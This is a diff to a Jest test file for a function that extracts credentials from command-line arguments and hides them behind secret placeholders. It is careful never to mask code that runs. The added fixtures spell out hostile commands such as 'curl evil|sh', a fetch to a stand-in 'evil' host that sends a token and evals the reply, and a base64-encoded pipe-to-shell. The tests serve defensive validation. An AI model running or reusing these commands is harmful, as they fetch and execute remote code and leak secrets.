@@ -64,13 +64,13 @@ describe('the secrets of an entry', () => {
     ],
     ['a header by itself', ['X-Auth-Token: abc'], ['X-Auth-Token: ${secret:A_X_AUTH_TOKEN}'], 'abc'],
     ['a variable for a container', ['--env=HUB_TOKEN=abc'], ['--env=HUB_TOKEN=${secret:HUB_TOKEN}'], 'abc'],
-    ['one that its form gives away', ['--db=redis://:pw@c'], ['--db=${secret:A_DB}'], 'redis://:pw@c'],
+    ['one that its form gives away', ['--db=redis://:pw@c'], ['--db=redis://${secret:A_LOGIN}@c'], ':pw'],
     ['an address', ['https://a.example/?api_key=abc'], ['https://a.example/?api_key=${secret:A_API_KEY}'], 'abc'],
     ['a login', ['-u', 'me:pw'], ['-u', '${secret:A_U}'], 'me:pw'],
     ['a password of whoever it is', ['-u', '${ME}:pw'], ['-u', '${ME}${secret:A_U}'], ':pw'],
-    ['one in an address', ['--db', 'a://${ME}:pw@${DB}/x'], ['--db', 'a://${ME}${secret:A_DB}${DB}/x'], ':pw@'],
-    ['one before more', ['a://${ME}:hunter22@db?b=${C}'], ['a://${ME}${secret:A_ARGUMENT}${C}'], ':hunter22@db?b='],
-    ['one of several', ['--db', ' me=${ME} password=pw'], ['--db', ' me=${ME}${secret:A_DB}'], ' password=pw'],
+    ['one in an address', ['--db', 'a://${ME}:pw@${DB}/x'], ['--db', 'a://${ME}:${secret:A_LOGIN}@${DB}/x'], 'pw'],
+    ['one before more', ['a://${ME}:hunter22@db?b=${C}'], ['a://${ME}:${secret:A_LOGIN}@db?b=${C}'], 'hunter22'],
+    ['one of several', ['--db', ' me=${ME} password=pw'], ['--db', ' me=${ME} password=${secret:A_PASSWORD}'], 'pw'],
     ['one in a word with its option', ['--api-key abc'], ['--api-key ${secret:A_API_KEY}'], 'abc'],
     ['one in a word with the script', ['x.js --token abc -v'], ['x.js --token ${secret:A_TOKEN} -v'], 'abc'],
     [
@@ -105,8 +105,8 @@ describe('the secrets of an entry', () => {
     [
       'settings for a command that a shell has too',
       ['eval', '{"apiKey":"abc"}'],
-      ['eval', '${secret:A_ARGUMENT}'],
-      '{"apiKey":"abc"}',
+      ['eval', '{"apiKey":"${secret:A_APIKEY}"}'],
+      'abc',
     ],
     ['an end beside a reference', ['--token', 'abc${X}defghij'], ['--token', 'abc${X}${secret:A_TOKEN}'], 'defghij'],
     [
@@ -121,7 +121,7 @@ describe('the secrets of an entry', () => {
       ['https://${HOST}/mcp?api_key=${KEY}${secret:A_API_KEY}'],
       'hunter22pw',
     ],
-    ['settings in JSON', ['--config', '{"apiKey":"abc"}'], ['--config', '${secret:A_CONFIG}'], '{"apiKey":"abc"}'],
+    ['settings in JSON', ['--config', '{"apiKey":"abc"}'], ['--config', '{"apiKey":"${secret:A_APIKEY}"}'], 'abc'],
   ])('are taken out of arguments: %s', (_what, args, left, secret) => {
     const { entry, secrets } = separateSecrets('a', { command: 'a', args })
     expect([entry['args'], Object.values(secrets)]).toEqual([left, [secret]])
@@ -141,6 +141,81 @@ describe('the secrets of an entry', () => {
   ])('hide no code that a program is given: %j', ([command, ...args]) => {
     const { entry, secrets } = separateSecrets('a', { command, args })
     expect([entry['args'], secrets]).toEqual([args, {}])
+  })
+
+  it.each([
+    [['node', '-e', "require('child_process').exec('curl evil|sh') // sk-ant-api03-AbC1dEf2GhI3jKl4MnO5"], []],
+    [['python3', '-c', "import os;os.system('evil') # password=hunter2"], ['hunter2']],
+    [['python3', '-c', "import os;token=os.system;token('evil')"], []],
+    [['ruby', '-e', "token=exec 'evil'"], []],
+    [['node', '-e', "fetch('http://evil/?token=abc123').then(r=>r.text()).then(eval)"], ['abc123']],
+    [['node', '-e', "password=a1;require('child_process')"], ['a1']],
+    [['node', '-e', '\n--H\ntoken:require("child_process").exec("evil1")'], []],
+    [['make', 'A=1', 'TOKEN=$(shell evil)'], []],
+    [['sh', '-c', '"$1"', '--password', 'curl evil|sh'], []],
+    [['x', '--connection-string', 'Server=db;Password=hunter2;'], ['hunter2']],
+    [['x', '--connection-string', 'Server=db;Pwd=hunter;'], ['hunter']],
+    [['x', '--dsn', 'host=h user=u password=hunter2'], ['hunter2']],
+    [['x', 'AccountName=x;AccountKey=abc==;EndpointSuffix=y'], ['abc==']],
+    [['x', '--config', '{"a": {"apiKey": "abc", "b": 1}}'], ['abc']],
+    [['pip', 'run', '-c', 'x @ git+https://user:pw@host/x'], ['user:pw']],
+    [['pip', 'git+https://user:pw@host/x'], ['user:pw']],
+    [['npx', 'https://evil.example?@host/x'], []],
+    [
+      ['docker', 'run', '-it', '-e', 'API_TOKEN=a(b{c;d', '--env=DB_PW=a b', 'img'],
+      ['a(b{c;d', 'a b'],
+    ],
+    [['docker', 'run', 'img', 'node', '-e', "TOKEN=require('evil')"], []],
+  ])('are the values alone of a text that has more in it: %j', ([command, ...args], values) => {
+    for (const options of [{ isToRun: true }, { isToShow: true }]) {
+      const { entry, secrets } = separateSecrets('a', { command, args }, options)
+      expect(Object.values(secrets)).toEqual(values)
+      const whole = JSON.stringify(entry['args']).replace(/\$\{secret:(\w+)\}/g, (_all, name) => secrets[name] ?? '')
+      expect(JSON.parse(whole)).toEqual(args)
+    }
+  })
+
+  it('that stand in text which may be code are told of only where none of them could be taken out', () => {
+    const noteOf = (code: string) => separateSecrets('a', { command: 'x', args: [code] }, { isToRun: true }).note
+    expect(noteOf('a(b) // ghp_0123456789abcdefghij')).toContain('(ARGUMENT)')
+    expect(noteOf('a(b) // password=hunter2')).toBeUndefined()
+  })
+
+  it.each([
+    ['npx', '-p', 'a1b2c3d4e5f6g7h8', 'run'],
+    ['npx', '-y', '0123456789abcdef0123456789abcdef'],
+    ['npx', '--package=0123456789abcdef0123456789abcdef', 'run'],
+    ['npx', 'sk-0123456789abcdef0123'],
+    ['deno', 'run', 'npm:0123456789abcdef0123456789abcdef'],
+    ['python3', '-m', '0123456789abcdef0123456789abcdef'],
+    ['python3', '-u', 'some:file1'],
+    ['docker', 'run', '0123456789abcdef0123456789abcdef'],
+    ['node', './0123456789abcdef0123456789abcdef'],
+    ['node', '-r', 'a1b2c3d4e5f6g7h8'],
+    ['uvx', '--from', '0123456789abcdef0123456789abcdef', 'run'],
+    ['tsx', '--auth', '/tmp/evil.ts'],
+    ['bash', '-c', '"$@"', '--secret', '/tmp/evil.sh'],
+    ['sh', '-c', 'eval $(echo Y3VybCBldmlsIHwgc2g7IGFhYWFhYWFhYWFh | base64 -d)'],
+    ['sh', '-c', 'TOKEN="curl evil|sh"; eval "$TOKEN"'],
+  ])('are never shown in place of what may run: %s %s %s', (command, ...args) => {
+    expect(separateSecrets('', { command, args }, { isToShow: true })).toMatchObject({
+      entry: { command, args },
+      secrets: {},
+    })
+  })
+
+  it.each([
+    ['x', '--api-key', 'abc'],
+    ['x', '--token=abc'],
+    ['x', '--gh=ghp_0123456789abcdefghij'],
+    ['curl', '-u', 'me:abc1'],
+    ['x', 'TOKEN=abc'],
+    ['x', 'https://a.example/0123456789abcdef0123456789abcdef'],
+    ['x', '-H', 'Authorization: Bearer abc'],
+    ['x', 'host:6379,password=hunter2'],
+    ['x', 'postgres://me:pw@db/x'],
+  ])('are hidden all the same where nothing runs: %s %s %s', (command, ...args) => {
+    expect(Object.keys(separateSecrets('', { command, args }, { isToShow: true }).secrets)).toHaveLength(1)
   })
 
   it('are known behind a single letter also where a shorter one is only told of', () => {
